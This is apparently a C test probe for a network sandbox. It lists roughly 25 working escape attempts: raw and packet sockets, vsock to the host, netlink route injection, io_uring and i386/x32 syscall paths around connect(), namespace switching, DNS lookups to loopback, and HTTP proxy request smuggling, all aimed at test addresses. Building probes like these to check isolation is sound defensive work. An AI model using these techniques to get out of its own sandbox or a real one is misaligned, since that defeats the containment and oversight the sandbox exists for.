#include "tests/probes/leak.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <linux/if_tun.h>
#include <linux/io_uring.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <linux/vm_sockets.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netdb.h>
#include <netinet/in.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

enum { MAX_IFINDEX = 8, HTTP_PROXY = 3128, SOCKS_PROXY = 1080,
	NR_IO_URING_SETUP = 425, NR_IO_URING_ENTER = 426 };

static long
done(long rv)
{
	return rv < 0 ? -errno : 0;
}

static struct sockaddr_in
at(const char *addr, uint16_t port)
{
	struct sockaddr_in sin = { .sin_family = AF_INET,
	    .sin_port = htons(port) };

	inet_pton(AF_INET, addr, &sin.sin_addr);
	return sin;
}

/* A frame to the far side's own address, by every interface. */
static long
packet_with(int type)
{
	/* ethernet, IPv4 to 198.51.100.10 with nothing inside */
	static const unsigned char frame[] = { 2, 0, 0, 0, 0, 1, 2, 0, 0, 0,
	    0, 2, 8, 0, 0x45, 0, 0, 20, 0, 0, 0, 0, 64, 255, 0, 0, 203, 0,
	    113, 2, 198, 51, 100, 10 };
	size_t skip = type == SOCK_RAW ? 0 : 14;
	int fd = socket(AF_PACKET, type | SOCK_CLOEXEC, htons(ETH_P_IP));
	long rv = -1;

	for (int i = 1; fd >= 0 && i < MAX_IFINDEX; i++) {
		struct sockaddr_ll to = { .sll_family = AF_PACKET,
		    .sll_protocol = htons(ETH_P_IP), .sll_ifindex = i,
		    .sll_halen = 6, .sll_addr = { 2, 0, 0, 0, 0, 1 } };

		if (sendto(fd, frame + skip, sizeof frame - skip, 0,
		    (struct sockaddr *)&to, sizeof to) >= 0)
			rv = 0;
	}
	return done(rv);
}

static long
packet_raw(void)
{
	return packet_with(SOCK_RAW);
}

static long
packet_dgram(void)
{
	return packet_with(SOCK_DGRAM);
}

/* IPPROTO_RAW: the whole header is ours. */
static long
raw_header(void)
{
	static const unsigned char head[] = { 0x45, 0, 0, 20, 0, 0, 0, 0, 64,
	    255, 0, 0, 0, 0, 0, 0, 198, 51, 100, 10 };
	struct sockaddr_in to = at("198.51.100.10", 0);
	int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);

	return done(fd < 0 ? -1 : sendto(fd, head, sizeof head, 0,
	    (struct sockaddr *)&to, sizeof to));
}

static long
link_local(void)
{
	long rv = -1;
	int fd = socket(AF_INET6, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	for (unsigned i = 1; fd >= 0 && i < MAX_IFINDEX; i++) {
		struct sockaddr_in6 to = { .sin6_family = AF_INET6,
		    .sin6_port = htons(5353), .sin6_scope_id = i };

		inet_pton(AF_INET6, "ff02::fb", &to.sin6_addr);
		if (sendto(fd, "leak", 4, 0, (struct sockaddr *)&to,
		    sizeof to) >= 0)
			rv = 0;
		inet_pton(AF_INET6, "fe80::1", &to.sin6_addr);
		if (sendto(fd, "leak", 4, 0, (struct sockaddr *)&to,
		    sizeof to) >= 0)
			rv = 0;
	}
	return done(rv);
}

static long
vsock_host(void)
{
	struct sockaddr_vm to = { .svm_family = AF_VSOCK, .svm_port = 1024,
	    .svm_cid = VMADDR_CID_HOST };
	int fd = socket(AF_VSOCK, SOCK_STREAM | SOCK_CLOEXEC, 0);

	return done(fd < 0 ? -1 : connect(fd, (struct sockaddr *)&to,
	    sizeof to));
}

/* A default route by the first interface: then the first way is open. */
static long
netlink_route(void)
{
	struct {
		struct nlmsghdr	n;
		struct rtmsg	r;
		struct rtattr	a;
		int		oif;
	} q = {
		.n = { sizeof q, RTM_NEWROUTE, NLM_F_REQUEST | NLM_F_ACK |
		    NLM_F_CREATE | NLM_F_REPLACE, 1, 0 },
		.r = { .rtm_family = AF_INET, .rtm_table = RT_TABLE_MAIN,
		    .rtm_protocol = RTPROT_BOOT, .rtm_type = RTN_UNICAST,
		    .rtm_scope = RT_SCOPE_LINK },
		.a = { RTA_LENGTH(sizeof(int)), RTA_OIF }, .oif = 1,
	};
	struct { struct nlmsghdr n; struct nlmsgerr e; char rest[4096]; } a;
	int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);

	q.r.rtm_dst_len = 0;
	if (getenv("FENCE_LEAK_BARE") != NULL)
		return 0;	/* near's own route is to stay */
	if (fd < 0 || send(fd, &q, sizeof q, 0) < 0 ||
	    recv(fd, &a, sizeof a, 0) < (ssize_t)sizeof a.n)
		return -errno;
	return a.e.error;
}

/* A socket of the host: $FENCE_LEAK_UNIX is its path, or its @name. */
static long
unix_host(const char *variable)
{
	const char *path = getenv(variable);
	struct sockaddr_un sun = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	socklen_t len;

	if (path == NULL)
		return -ENOENT;
	snprintf(sun.sun_path, sizeof sun.sun_path, "%s", path);
	len = (socklen_t)(sizeof sun.sun_family + strlen(path));
	if (path[0] == '@')
		sun.sun_path[0] = '\0';
	else
		len++;
	if (connect(fd, (struct sockaddr *)&sun, len) != 0)
		return -errno;
	return done(write(fd, "leak\n", 5));
}

static long
unix_path(void)
{
	return unix_host("FENCE_LEAK_PATH");
}

static long
unix_abstract(void)
{
	return unix_host("FENCE_LEAK_ABSTRACT");
}

/* One that connects a socket, without connect(). */
static long
ring_connect(void)
{
	struct io_uring_params p = { 0 };
	struct sockaddr_in to = at("198.51.100.10", 80);
	int ring = (int)syscall(NR_IO_URING_SETUP, 4, &p);
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	struct io_uring_sqe *sqe;
	unsigned char *sq;

	if (ring < 0)
		return -errno;
	sq = mmap(NULL, p.sq_off.array + p.sq_entries * sizeof(uint32_t),
	    PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
	sqe = mmap(NULL, p.sq_entries * sizeof *sqe, PROT_READ | PROT_WRITE,
	    MAP_SHARED, ring, IORING_OFF_SQES);
	if (sq == MAP_FAILED || sqe == MAP_FAILED)
		return -errno;
	*sqe = (struct io_uring_sqe){ .opcode = IORING_OP_CONNECT, .fd = fd,
	    .addr = (uintptr_t)&to, .off = sizeof to };
	*(uint32_t *)(sq + p.sq_off.array) = 0;
	*(uint32_t *)(sq + p.sq_off.tail) = 1;
	return done(syscall(NR_IO_URING_ENTER, ring, 1, 1,
	    IORING_ENTER_GETEVENTS, NULL, 0));
}

static long
new_namespace(void)
{
	struct sockaddr_in to = at("198.51.100.10", 7);
	int fd;

	if (unshare(CLONE_NEWUSER | CLONE_NEWNET) != 0)
		return -errno;
	fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	return done(sendto(fd, "leak", 4, 0, (struct sockaddr *)&to,
	    sizeof to));
}

static long
tun_device(void)
{
	struct ifreq ifr = { .ifr_flags = IFF_TUN | IFF_NO_PI };
	int fd = open("/dev/net/tun", O_RDWR | O_CLOEXEC);

	return done(fd < 0 ? -1 : ioctl(fd, TUNSETIFF, &ifr));
}

static long
other_namespace(void)
{
	int fd = open("/proc/1/ns/net", O_RDONLY | O_CLOEXEC);

	return done(fd < 0 ? -1 : setns(fd, CLONE_NEWNET));
}

#ifdef __x86_64__
/* socketcall and connect as i386 programs call them. */
static long
int80(long nr, long a, long b, long c)
{
	long rv;

	__asm__ volatile("int $0x80" : "=a"(rv) : "a"(nr), "b"(a), "c"(b),
	    "d"(c) : "memory", "r8", "r9", "r10", "r11");
	return rv;
}

static long
i386_connect(void)
{
	/* Below 4 GiB, where that entry can see it. */
	struct sockaddr_in *to = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
	    MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	long fd = int80(359, AF_INET, SOCK_STREAM, 0);

	if (fd < 0)
		return fd;
	*to = at("198.51.100.10", 80);
	return int80(362, fd, (long)(intptr_t)to, sizeof *to);
}

static long
i386_mptcp(void)
{
	struct sockaddr_in *to = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
	    MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	long fd = int80(359, AF_INET, SOCK_STREAM, 262);

	if (fd < 0)
		return fd;
	*to = at("198.51.100.10", 80);
	return int80(362, fd, (long)(intptr_t)to, sizeof *to);
}

static long
x32_connect(void)
{
	struct sockaddr_in to = at("198.51.100.10", 80);
	long fd = syscall(0x40000000 | SYS_socket, AF_INET, SOCK_STREAM, 0);

	return done(fd < 0 ? -1 : syscall(0x40000000 | SYS_connect, fd, &to,
	    sizeof to));
}
#endif

/* A name, by the ways a program has. */
static long
name_dig(const char *server, int type)
{
	static const char query[] = "\x12\x34\1\0\0\1\0\0\0\0\0\0"
	    "\6secret\7allowed\4test\0\0\x10\0\1";
	struct sockaddr_in to = at(server, 53);
	int fd = socket(AF_INET, type | SOCK_CLOEXEC, 0);
	char framed[2 + sizeof query - 1];

	framed[0] = 0;
	framed[1] = sizeof query - 1;
	memcpy(framed + 2, query, sizeof query - 1);
	if (connect(fd, (struct sockaddr *)&to, sizeof to) != 0)
		return -errno;
	return done(type == SOCK_DGRAM ? send(fd, query, sizeof query - 1, 0) :
	    send(fd, framed, sizeof framed, MSG_NOSIGNAL));
}

static long
name_loopback(void)
{
	return name_dig("127.0.0.1", SOCK_DGRAM);
}

static long
name_tcp(void)
{
	return name_dig("203.0.113.1", SOCK_STREAM);
}

static long
via_proxy(uint16_t port, const char *words, size_t len)
{
	struct sockaddr_in to = at("127.0.0.1", port);
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	char answer[512];

	if (connect(fd, (struct sockaddr *)&to, sizeof to) != 0 ||
	    write(fd, words, len) < 0)
		return -errno;
	return done(read(fd, answer, sizeof answer));
}

#define PROXY(fn, port, words) static long fn(void) \
	{ return via_proxy(port, words, sizeof words - 1); }

PROXY(proxy_connect, HTTP_PROXY,
    "CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
PROXY(proxy_get, HTTP_PROXY,
    "GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
PROXY(proxy_literal, HTTP_PROXY,
    "CONNECT 198.51.100.10:80 HTTP/1.1\r\nHost: x\r\n\r\n")
PROXY(proxy_smuggle, HTTP_PROXY,
    "GET http://fence.internal/ HTTP/1.1\r\nHost: fence.internal\r\n\r\n"
    "GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
PROXY(socks_name, SOCKS_PROXY,
    "\5\1\0\5\1\0\3\14allowed.test\0\x50")
PROXY(socks_udp, SOCKS_PROXY, "\5\1\0\5\3\0\1\0\0\0\0\0\0")
PROXY(socks_bind, SOCKS_PROXY, "\5\1\0\5\2\0\1\xc6\x33\x64\x0a\0\x50")

static long
listen_any(void)
{
	struct sockaddr_in any = { .sin_family = AF_INET };
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (bind(fd, (struct sockaddr *)&any, sizeof any) != 0)
		return -errno;
	return done(listen(fd, 5));
}

#define NAMED(fn)	{ #fn, fn }

const struct leak_trick leak_tricks[] = {
	NAMED(packet_raw), NAMED(packet_dgram), NAMED(raw_header),
	NAMED(link_local), NAMED(vsock_host), NAMED(netlink_route),
	NAMED(unix_path), NAMED(unix_abstract), NAMED(ring_connect),
	NAMED(new_namespace), NAMED(tun_device), NAMED(other_namespace),
#ifdef __x86_64__
	NAMED(i386_connect), NAMED(i386_mptcp), NAMED(x32_connect),
#endif
	NAMED(name_loopback), NAMED(name_tcp), NAMED(proxy_connect),
	NAMED(proxy_get), NAMED(proxy_literal), NAMED(proxy_smuggle),
	NAMED(socks_name), NAMED(socks_udp), NAMED(socks_bind),
	NAMED(listen_any),
};
const size_t leak_ntricks = sizeof leak_tricks / sizeof leak_tricks[0];
